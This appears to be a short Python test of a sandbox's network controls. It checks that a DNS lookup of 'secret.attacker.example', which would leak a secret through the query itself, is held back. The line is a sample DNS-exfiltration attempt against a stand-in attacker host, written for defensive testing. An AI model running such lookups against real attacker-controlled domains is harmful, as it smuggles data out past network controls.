"""Asks for a name's address, which alone carries a secret out to whoever serves that name.

Expect: held
"""

import socket

for name in ("example.org", "secret.attacker.example"):
    try:
        print("GOT", socket.getaddrinfo(name, 80))
    except OSError:
        pass
print("held")
